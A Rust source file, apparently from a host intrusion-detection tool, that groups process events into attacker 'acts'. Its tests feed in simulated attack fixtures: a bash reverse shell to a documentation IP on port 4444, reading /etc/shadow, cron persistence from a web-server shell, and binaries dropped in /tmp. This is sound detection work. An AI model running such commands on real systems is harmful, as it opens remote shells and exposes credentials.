//! To which act each signal belongs: what one start brought about, or what was typed over a socket.

use std::collections::HashMap;

use super::kinship::{command, in_service_of, is_service, path, started_as};
use bartizan_model::{Act, Event, Process, ProcessKey, Timestamp};

/// Processes, commands and told shells remembered. At the bound all go: then what goes on counts as the act of the highest
/// process that is still known, and less is done alone.
const MAX_REMEMBERED: usize = 4096;

/// Who started what, as far as signals need it.
#[derive(Debug, Default)]
pub(super) struct Acts {
    /// The process that the act of another began with.
    began: HashMap<ProcessKey, ProcessKey>,
    /// What a service ran before, in its words, and the process that it first began with: done again it is the same act.
    habits: HashMap<(ProcessKey, String), ProcessKey>,
    /// Shells that read their commands from a socket, and since when.
    told: HashMap<ProcessKey, Timestamp>,
}

impl Acts {
    /// The act that this event is a part of; `None` when nobody knows who did it.
    pub(super) fn of(&mut self, event: &Event) -> Option<Act> {
        let process = event.behind()?;
        if let Some(doer) = self.told_below(process, event.at) {
            return Some(Act { of: doer, told: true });
        }
        Some(Act { of: self.began_with(process), told: false })
    }

    /// From now on this process does what comes over its socket.
    pub(super) fn is_told(&mut self, process: ProcessKey, since: Timestamp) {
        if self.told.len() >= MAX_REMEMBERED {
            self.told.clear();
        }
        self.told.entry(process).or_insert(since);
    }

    /// The highest process below the nearest told shell; the shell itself for what it does by itself. What it did before it
    /// became that shell, calling whoever tells it, was not typed over the socket: that may be heard of later.
    fn told_below(&self, process: &Process, at: Timestamp) -> Option<ProcessKey> {
        let mut below = process.key;
        let types = |key: &ProcessKey| self.told.get(key).is_some_and(|since| at >= *since);
        if self.told.is_empty() || types(&below) {
            return types(&below).then_some(below);
        }
        for ancestor in process.lineage.ancestors.iter() {
            if types(&ancestor.key) {
                return Some(below);
            }
            below = ancestor.key;
        }
        None
    }

    fn began_with(&mut self, process: &Process) -> ProcessKey {
        let known = std::iter::once(process.key).chain(process.lineage.ancestors.iter().map(|ancestor| ancestor.key));
        if let Some(began) = known.into_iter().find_map(|key| self.began.get(&key).copied()) {
            self.remember(process, began);
            return began;
        }
        let began = match started_as(process) {
            Ok(top) => self.habit(process, top),
            Err(service) => service,
        };
        // What a service does itself has nothing to do with what each of its visitors makes it start.
        if !is_service(process) {
            self.remember(process, began);
        }
        began
    }

    fn remember(&mut self, process: &Process, began: ProcessKey) {
        if self.began.len() >= MAX_REMEMBERED {
            self.began.clear();
        }
        self.began.insert(process.key, began);
    }

    /// A service that runs the same command line again, digits apart, does the same once more. Of a process above nothing but
    /// its program is known.
    fn habit(&mut self, process: &Process, top: ProcessKey) -> ProcessKey {
        let Some(service) = in_service_of(process) else { return top };
        let above = process.lineage.ancestors.iter().find(|ancestor| ancestor.key == top && top != process.key);
        let words = above.map_or_else(|| command(process), |ancestor| path(&ancestor.exe));
        let words: String = words.chars().filter(|c| !c.is_ascii_digit()).collect();
        if self.habits.len() >= MAX_REMEMBERED {
            self.habits.clear();
        }
        *self.habits.entry((service, words)).or_insert(top)
    }
}

#[cfg(test)]
mod tests {
    use super::super::scene::{Scene, as_role, by};
    use super::*;
    use bartizan_model::{Lineage, ServiceRole};

    fn act_of(signals: &[bartizan_model::Signal], detector: &str) -> Act {
        by(signals, detector).act.unwrap()
    }

    #[test]
    fn a_shell_what_it_runs_and_what_that_writes_are_one_act() {
        let mut scene = Scene::new();
        let apache = scene.daemon("/usr/sbin/apache2");
        let shell = scene.child(&apache, "/bin/sh -c \"crontab -u web f\"");
        let crontab = scene.child(&shell, "/usr/bin/crontab -u web f");
        let dropped = scene.child(&shell, "/tmp/selfextract");
        let one = act_of(&scene.exec(&shell), "web_server_shell");
        let path = "/var/spool/cron/crontabs/web";
        let written = scene.persist(Some(&crontab), bartizan_model::PersistenceKind::Cron, path, Some("aa"), "bb");
        assert_eq!(act_of(&written, "persistence_by_service"), one);
        assert_eq!(act_of(&scene.exec(&dropped), "exec_from_writable"), one);
        // It becomes a service of its own, and stays what it was.
        let listening = as_role(dropped, ServiceRole::NetworkService);
        assert_eq!(act_of(&scene.listen(&listening, "0.0.0.0:4444"), "unexpected_listener"), one);
        let below = scene.child(&listening, "/bin/sh -c id");
        assert_eq!(act_of(&scene.exec(&below), "web_server_shell"), one);
    }

    #[test]
    fn each_request_is_an_act_and_the_same_one_again_is_not() {
        let mut scene = Scene::new();
        let nginx = scene.daemon("/usr/sbin/nginx");
        let mut ran = |line: &str| {
            let shell = scene.child(&nginx, line);
            act_of(&scene.exec(&shell), "web_server_shell")
        };
        let first = ran("/bin/sh -c \"/srv/build 17\"");
        assert_eq!(ran("/bin/sh -c \"/srv/build 18\""), first);
        assert_ne!(ran("/bin/sh -c id"), first);
        let mut other = Scene::new();
        let _ = other.daemon("/usr/sbin/nginx");
        let nginx = other.daemon("/usr/sbin/nginx");
        let shell = other.child(&nginx, "/bin/sh -c \"/srv/build 17\"");
        assert_ne!(act_of(&other.exec(&shell), "web_server_shell"), first, "another service");
    }

    #[test]
    fn what_is_typed_over_a_socket_is_an_act_each() {
        let mut scene = Scene::new();
        let nginx = scene.daemon("/usr/sbin/nginx");
        let outer = scene.child(&nginx, "/bin/bash -c \"bash -i >& /dev/tcp/198.51.100.7/4444\"");
        scene.exec(&outer);
        scene.connect(&outer, "198.51.100.7:4444");
        let mut shell = scene.child(&outer, "/bin/bash -i");
        shell.stdio_sockets = 0b111;
        let opened = act_of(&scene.exec(&shell), "shell_on_socket");
        assert_eq!(opened, Act { of: outer.key, told: false });
        let dropped = scene.child(&shell, "/tmp/x");
        let cat = scene.child(&shell, "/bin/cat /etc/shadow");
        assert_eq!(act_of(&scene.exec(&dropped), "exec_from_writable"), Act { of: dropped.key, told: true });
        assert_eq!(act_of(&scene.open(&cat, "/etc/shadow"), "credential_read"), Act { of: cat.key, told: true });
        let builtin = scene.open(&shell, "/etc/shadow");
        assert_eq!(act_of(&builtin, "credential_read"), Act { of: shell.key, told: true });
    }

    #[test]
    fn what_the_shell_did_before_it_was_one_is_not_typed_whenever_it_is_heard_of() {
        let mut scene = Scene::new();
        let nginx = scene.daemon("/usr/sbin/nginx");
        let mut shell = scene.child(&nginx, "/bin/sh -i");
        shell.stdio_sockets = 0b111;
        let mut acts = Acts::default();
        let event = |at: i64| Event {
            id: bartizan_model::EventId(1),
            at: chrono::DateTime::from_timestamp_nanos(at),
            kind: bartizan_model::EventKind::Exec,
            process: Some(std::sync::Arc::new(shell.clone())),
            source: bartizan_model::Source::Ebpf,
            complete: true,
        };
        let opened = acts.of(&event(20)).unwrap();
        acts.is_told(shell.key, event(20).at);
        assert_eq!(acts.of(&event(10)), Some(opened), "it called before it became the shell");
        assert_eq!(acts.of(&event(30)), Some(Act { of: shell.key, told: true }));
    }

    #[test]
    fn a_shell_that_was_given_its_commands_is_not_told_any() {
        let mut scene = Scene::new();
        let nginx = scene.daemon("/usr/sbin/nginx");
        let python = scene.child(&nginx, "/usr/bin/python3 worker.py");
        scene.connect(&python, "198.51.100.7:443");
        let mut shell = scene.child(&python, "/bin/sh -c \"/tmp/x\"");
        shell.stdio_sockets = 0b111;
        let signals = scene.exec(&shell);
        assert_eq!(by(&signals, "shell_on_socket").hostile, None);
        let dropped = scene.child(&shell, "/tmp/x");
        assert_eq!(act_of(&scene.exec(&dropped), "exec_from_writable"), Act { of: python.key, told: false });
    }

    #[test]
    fn a_deep_tree_is_still_one_act() {
        let mut scene = Scene::new();
        let jenkins = scene.daemon("/usr/bin/jenkins");
        let first = scene.child(&jenkins, "/bin/sh -c make");
        let one = act_of(&scene.exec(&first), "web_server_shell");
        let mut last = first.clone();
        for depth in 0..60 {
            last = scene.child(&last, "/bin/sh -c make");
            assert_eq!(act_of(&scene.exec(&last), "web_server_shell"), one, "{depth}");
        }
        assert!(last.lineage.elided > 0 && last.lineage.ancestors.len() == Lineage::SHOWN);
        // Nothing of it was ever told of before: it counts as the service's.
        let mut silent = Scene::new();
        let jenkins = silent.daemon("/usr/bin/jenkins");
        let mut last = silent.child(&jenkins, "/usr/bin/make");
        for _ in 0..40 {
            last = silent.child(&last, "/usr/bin/make");
        }
        let shell = silent.child(&last, "/bin/sh -c x");
        assert_eq!(act_of(&silent.exec(&shell), "web_server_shell").of, jenkins.key);
    }

    #[test]
    fn the_memory_is_bounded() {
        let mut acts = Acts::default();
        let mut scene = Scene::new();
        let nginx = scene.daemon("/usr/sbin/nginx");
        for number in 0..(MAX_REMEMBERED + 10) {
            let mut shell = scene.child(&nginx, "/bin/sh");
            shell.argv.push("x".repeat(number % 100).as_str().into());
            acts.began_with(&shell);
            acts.is_told(shell.key, Timestamp::default());
        }
        assert!(acts.began.len() <= MAX_REMEMBERED && acts.habits.len() <= MAX_REMEMBERED && acts.told.len() <= MAX_REMEMBERED);
    }
}
